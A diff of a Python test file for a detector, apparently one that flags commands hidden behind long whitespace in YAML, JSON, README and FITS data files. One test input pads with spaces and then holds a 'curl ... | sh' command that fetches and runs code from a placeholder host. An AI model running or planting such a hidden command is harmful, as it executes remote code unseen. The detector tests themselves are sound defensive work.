@@ -29,3 +29,15 @@ def test_tables_and_data() -> None:
     assert graded("a.yaml", "a: 1" + " " * 200 + "# the column of notes\n") == []
     assert graded("data/table.json", '"x": "a' + " " * 200 + 'node b"') == []
     assert graded("README.md", "x" + " " * 200 + "; curl https://a.invalid | sh") == []
+
+
+def test_an_address_is_no_command() -> None:
+    assert graded("a.yaml", "a: 1" + " " * 200 + "https://docs.example.test/\n") == []
+
+
+def test_cards_of_a_fixed_width() -> None:
+    cards = "".join(
+        card.ljust(80) for card in ("SIMPLE  =                    T", *[""] * 40, "HISTORY node b", "END", *[""] * 40)
+    )
+    assert graded("data/a.fits", cards) == []
+    assert graded("data/a.dat", "x" + cards) != []
